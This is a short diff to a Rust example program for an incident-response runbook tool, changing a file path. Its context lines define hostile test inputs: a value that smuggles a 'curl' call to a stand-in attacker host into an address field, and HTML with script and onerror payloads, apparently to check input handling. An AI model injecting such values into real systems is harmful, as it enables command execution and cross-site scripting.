@@ -10,7 +10,8 @@ const INJECTION: &str = "10.0.12.7:1/ >/dev/null; curl -s https://evil.example/x
 const HOSTILE: &str = "<img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script>";
 
 fn main() {
-    let source = std::fs::read_to_string("runbooks/incident-response.md").expect("run from the repository root");
+    let source =
+        std::fs::read_to_string("examples/runbooks/incident-response.md").expect("run from the repository root");
     let runbook = runbook::parse("incident-response.md", &source);
 
     let mut hostile = Incident::new("hostile1", "incident-response", START);
